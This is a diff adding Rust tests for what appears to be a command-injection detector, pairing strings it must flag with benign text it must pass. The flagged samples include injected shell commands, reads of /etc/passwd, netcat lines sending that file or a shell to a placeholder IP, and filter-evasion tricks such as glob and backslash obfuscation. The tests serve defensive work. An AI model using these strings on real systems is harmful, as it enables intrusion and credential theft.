@@ -907,3 +907,159 @@ fn only_variables_that_hold_a_program_run_one() {
         assert!(!hit(v), "{v}");
     }
 }
+
+#[test]
+fn versioned_file_names_and_quoted_wrappers() {
+    for v in [
+        "python3.10 cmd",
+        "php7.4 -r 'system(1);'",
+        "perl5.30 -e 'exec q{id}'",
+        "gcc-12 x.c -o x",
+        ";python3.10 -c 'import os'",
+        "\"time\" who",
+        "'nohup' id",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Python 3.10 release notes",
+        "python3.10 is nice",
+        "gcc-12 is the default compiler",
+        "php7.4",
+        "upgrade to php7.4 today",
+        "time who",
+        "\"nice\" people",
+        "\"time\" who knows",
+        "'id'",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn markup_man_pages_and_mentions_are_not_command_lines() {
+    for v in [
+        "<dd class=\"field-odd\"><p>A. M. Kuchling</p> </dd>",
+        "<pre class='x' hidden>text</pre>",
+        "BOFH excuse #280:\n\nTraceroute says that there is a routing problem in the backbone.",
+        "/IP 主机名解析。为启用这个功能，\"/etc/nsswitch.conf\" 文件应当有这",
+        "ls(1) 的日期格式受语言环境影响. \"LANG=C ls -l\" 和 \"LANG=",
+        "\"systemctl status $unit|$PID|$device\" 的输出使用有颜色的点",
+        "see crontab(5) for the format",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "<id;",
+        "<uname -a",
+        "\n\ntraceroute 10.0.0.1",
+        "/usr/bin/id",
+        "/bin/cat /etc/passwd",
+        "ls -l /etc",
+        "\"; ls -l\" 和",
+        "\"x\" 和; cat /etc/passwd",
+        "你好你好; cat /etc/passwd",
+        ";ls(1)|id",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
+fn a_parenthesis_after_a_tag_is_text() {
+    for v in [
+        "<span class=\"hljs-built_in\">require</span>(<span class=\"s\">'node:buffer'</span>);",
+        "<b>(note)</b> see <i>(this)</i>",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "cat >(nc 10.0.0.1 4444) /etc/passwd",
+        "x;tee >(sh)",
+        "diff <(id) x",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
+fn lone_tools_and_probes_after_one_token() {
+    for v in [
+        "abc; hostname",
+        "x & hostname",
+        "x | hostname",
+        "x\nhostname",
+        "x; echo hacked",
+        "abc & echo hacked",
+        "u\\n\\a\\m\\e -a",
+        ";u\\n\\a\\m\\e -a",
+        "$env:COMPUTERNAME",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "java & python",
+        "Node | Go",
+        "fish; Python",
+        "Rock & Roll",
+        "I like cats; hostname is set later",
+        "x; echo is a command that prints",
+        "Echo; Echo hello",
+        "Rock; echo chamber",
+        "Coffee; python",
+        "salt & pepper",
+        "a\\nb",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn windows_if_with_quoted_operands() {
+    for v in [
+        "if \"A A\" == \"A A\" echo same",
+        "x && if \"%a%\"==\"1\" whoami",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "if \"it rains\" we stay in",
+        "if (\"a b\" == x) {",
+        "If \"A A\" is equal to \"A A\", say so",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn command_glued_to_an_unset_variable() {
+    for v in [
+        "'cmd=a; sh$XX -c whoami",
+        ";bash${u} -i",
+        "|nc$x 10.0.0.1 4444",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "US$50 or EUR 40",
+        "price: ab$cd",
+        "cat$HOME is a word",
+        "I paid 5$ for it; ok",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn capitalised_globs_match_no_program() {
+    for v in ["x\n\"Ne? V tom případě\"", "\"a!\"\n\"Ne? V tom\""] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        ";/???/c?t /etc/passwd",
+        "x\n/???/bin/n? -e /bin/sh 1.2.3.4 1",
+        ";ne? user",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
